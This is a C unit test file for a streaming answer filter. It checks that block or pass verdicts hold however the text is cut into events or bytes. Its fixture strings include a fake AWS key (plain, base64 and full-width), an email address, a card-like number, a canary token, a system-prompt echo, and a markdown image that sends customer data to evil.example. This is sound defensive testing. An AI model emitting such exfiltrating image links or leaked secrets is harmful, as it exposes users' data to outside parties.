/* SPDX-License-Identifier: Apache-2.0 */
/* The same answer, however it is cut: into events at every character, into feeds at every byte.
 * What the client reads is the whole text after the whole text's verdict. */
#include "stream_rig.h"

#define AWS "AKIAYQFODESARIWXLIXQ"

static const char *const texts[] = {
    "Nothing is wrong with this, as far as 3 of 4 readers say.",
    "The key is " AWS " as far as I know.",
    "Write to kghgdj_rtheru@outlook.com, or do not.",
    "It is 4929 7226 5379 7141, my credit card. Thank you very much for all of it.",
    "Decode QUtJQVlRRk9ERVNBUklXWExJWFEgaXMgdGhlIGtleQ== and see it",
    "Two: kghgdj_rtheru@outlook.com and " AWS ".",
    "Here it is: MERLON-CANARY-7f3a91c2d4. Done",
    "We call it PROJECT \n Falcon here",
    "Look: ![a](https://evil.example/p.png?q=the+customer+is+Jane) nice",
    "Sure: " RIG_PROMPT " That is all.",
    "Dear [EMAIL_1], we have written to [EMAIL_1] and [NAME_1]. [EMAIL_2] is nobody.",
    "Caf\xc3\xa9 \"quoted\" \\ \xf0\x9f\x98\x80 [EMAIL_1]\n\xd0\x9f\xd1\x80 and " AWS " \xc3\xa9",
    "Not whole: [EMAIL",
    "See https://docs.corp.net/?q=[EMAIL_1] or [this](https://corp.net/[EMAIL_1]), [EMAIL_1].",
    "a\n\n- [x] [EMAIL_1]: [[EMAIL_1]] [EMAIL_1][EMAIL_1]",
    "Full width \xef\xbc\xa1KIAYQFODESARIWXLIXQ letters\nand a line",
};

static struct played played;
static struct expected expected;
static struct buf stream, text_out;
static size_t runs, failures;

static void complain(const struct protocol *p, const char *what, struct slice text)
{
    if (failures++ > 5) return;
    print_error("%s: %s\n text: %.*s\n want: %s\n got: %s\n out: %.*s\n", p->surface, what,
                SLICE_ARG(text), buf_text(&expected.text), buf_text(&text_out),
                SLICE_ARG(buf_slice(&played.out)));
}

static void judge(const struct protocol *p, struct slice text)
{
    const struct record_side_of *side = &played.record.side[RECORD_ANSWER];
    runs++;
    buf_reset(&text_out);
    if (!heard(p, buf_slice(&played.out), p->channel, PART_FLOW_NONE, &text_out))
        complain(p, "does not parse", text);
    if (side->action != expected.action) complain(p, "another verdict", text);
    if (expected.action == ACT_BLOCK) {
        if (played.step != STREAM_BLOCKED) complain(p, "not blocked", text);
        if (side->because != expected.because) complain(p, "another reason", text);
        if (p->whole) buf_reset(&text_out); /* the refusal is all that there is */
        if (!slice_starts(text, buf_slice(&text_out))) complain(p, "more than came", text);
        if (text_out.n > expected.from) complain(p, "said what it was blocked for", text);
        return;
    }
    if (played.step != STREAM_GO) complain(p, "blocked", text);
    if (!slice_eq(buf_slice(&text_out), buf_slice(&expected.text))) complain(p, "text", text);
    bool same = slice_eq(buf_slice(&expected.text), text);
    if (same && !slice_eq(buf_slice(&played.out), buf_slice(&stream)))
        complain(p, "not byte for byte", text);
}

static void expect_of(const struct protocol *p, struct slice text)
{
    buf_reset(&expected.text);
    expect(p, text, &expected);
}

static void play_cuts(const struct protocol *p, struct slice text, const size_t *cuts, size_t n,
                      size_t first, size_t size)
{
    buf_reset(&stream);
    buf_reset(&played.out);
    put_stream(p, text, cuts, n, &stream);
    play(p, buf_slice(&stream), first, size, &played);
    judge(p, text);
}

static bool is_cut(struct slice text, size_t at)
{
    return at > 0 && at < text.n && (text.p[at] & 0xc0) != 0x80;
}

static uint32_t seed = 1;

static size_t dice(size_t n)
{
    seed = seed * 1664525u + 1013904223u;
    return (seed >> 8) % n;
}

static void sorted_cuts(struct slice text, size_t *cuts, size_t n)
{
    for (size_t i = 0; i < n; i++) {
        do cuts[i] = dice(text.n);
        while (!is_cut(text, cuts[i]));
        for (size_t k = i; k > 0 && cuts[k] < cuts[k - 1]; k--) {
            size_t t = cuts[k];
            cuts[k] = cuts[k - 1];
            cuts[k - 1] = t;
        }
    }
}

/* Every single cut, every character an event of its own, two and three cuts as the dice fall. */
static void text_cuts(const struct protocol *p, struct slice text)
{
    static size_t all[1024];
    size_t n = 0, cuts[3];
    expect_of(p, text);
    play_cuts(p, text, NULL, 0, 0, 0);
    if (p->whole) return;
    for (size_t at = 0; at < text.n; at++) {
        if (!is_cut(text, at)) continue;
        all[n++] = at;
        play_cuts(p, text, &at, 1, 0, 0);
    }
    play_cuts(p, text, all, n, 0, 0);
    for (size_t i = 0; i < 40; i++) {
        sorted_cuts(text, cuts, 2 + i % 2);
        play_cuts(p, text, cuts, 2 + i % 2, 0, dice(2) ? 1 + dice(200) : 0);
    }
}

static void splits_of_text(void **state)
{
    (void)state;
    for (size_t i = 0; i < COUNT_OF(protocols); i++)
        for (size_t k = 0; k < COUNT_OF(texts); k++) text_cuts(&protocols[i], slice_str(texts[k]));
    assert_int_equal(failures, 0);
    assert_true(runs > 5000);
}

/* The bytes in two feeds, cut at every byte, and one by one. */
static void byte_cuts(const struct protocol *p, struct slice text)
{
    size_t cuts[] = {9, 21, 30};
    size_t n = p->whole ? 0 : 3;
    expect_of(p, text);
    play_cuts(p, text, cuts, n, 0, 1);
    size_t size = stream.n;
    for (size_t at = 1; at < size; at++) play_cuts(p, text, cuts, n, at, 0);
}

static void splits_of_bytes(void **state)
{
    (void)state;
    static const size_t some[] = {0, 1, 6, 10, 11};
    for (size_t i = 0; i < COUNT_OF(protocols); i++)
        for (size_t k = 0; k < COUNT_OF(some); k++)
            byte_cuts(&protocols[i], slice_str(texts[some[k]]));
    assert_int_equal(failures, 0);
}

int main(void)
{
    const struct CMUnitTest tests[] = {cmocka_unit_test(splits_of_text),
                                       cmocka_unit_test(splits_of_bytes)};
    buf_init(&played.out, 16u << 20);
    buf_init(&stream, 16u << 20);
    buf_init(&text_out, 16u << 20);
    buf_init(&expected.text, 16u << 20);
    int failed = cmocka_run_group_tests(tests, rig_begin, rig_end);
    buf_done(&played.out);
    buf_done(&stream);
    buf_done(&text_out);
    buf_done(&expected.text);
    return failed;
}
